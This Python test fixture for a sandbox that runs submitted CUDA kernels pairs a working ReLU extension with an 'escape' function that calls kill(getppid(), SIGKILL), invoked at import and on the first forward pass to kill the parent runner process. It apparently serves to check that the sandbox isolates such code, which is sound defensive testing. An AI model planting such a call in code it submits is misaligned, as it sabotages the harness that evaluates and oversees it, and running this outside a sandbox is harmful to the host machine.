"""Honest ReLU, but native code calls kill(getppid(), SIGKILL) at import (in the builder) and
in the first forward: without a sandbox that kills the runner, and the batch with it. (CUDA twin: the kernel runs on the GPU, the escape on the host.)

Expected verdict with the sandbox in force: ok, no flags: inside its PID namespace the parent is the sandbox's PID 1, which no process inside can kill.
Needs the sandbox: without it this is a real attack on the machine.
"""
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

cpp_source = r"""
#include <torch/extension.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <cstdlib>
#include <string>
#include <vector>

int64_t escape() { return kill(getppid(), SIGKILL) == 0 ? 1 : 0; }

torch::Tensor relu_forward(torch::Tensor x);
"""

cuda_source = r"""
#include <torch/extension.h>
#include <ATen/cuda/CUDAContext.h>
#include <c10/cuda/CUDAGuard.h>
#include <c10/cuda/CUDAException.h>

__global__ void relu_kernel(const float* __restrict__ in, float* __restrict__ out, int64_t n) {
    int64_t stride = (int64_t)gridDim.x * blockDim.x;
    for (int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x; i < n; i += stride)
        out[i] = fmaxf(in[i], 0.f);
}

torch::Tensor relu_forward(torch::Tensor x) {
    TORCH_CHECK(x.is_cuda() && x.scalar_type() == torch::kFloat32, "relu_forward: float32 CUDA tensor");
    const at::cuda::OptionalCUDAGuard guard(x.device());
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const int64_t n = xc.numel();
    if (n == 0) return y;
    const int threads = 256;
    const int blocks = (int)std::min<int64_t>((n + threads - 1) / threads, 4096);
    relu_kernel<<<blocks, threads, 0, at::cuda::getCurrentCUDAStream()>>>(xc.data_ptr<float>(), y.data_ptr<float>(), n);
    C10_CUDA_KERNEL_LAUNCH_CHECK();
    return y;
}
"""

relu_ext = load_inline(
    name="kh_adv_kill_parent_cuda",
    cpp_sources=cpp_source,
    cuda_sources=cuda_source,
    functions=["relu_forward", "escape"],
    verbose=False,
)

relu_ext.escape()   # at import: in the builder too


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self._escaped = None

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if self._escaped is None:
            self._escaped = int(relu_ext.escape())
        return relu_ext.relu_forward(x)
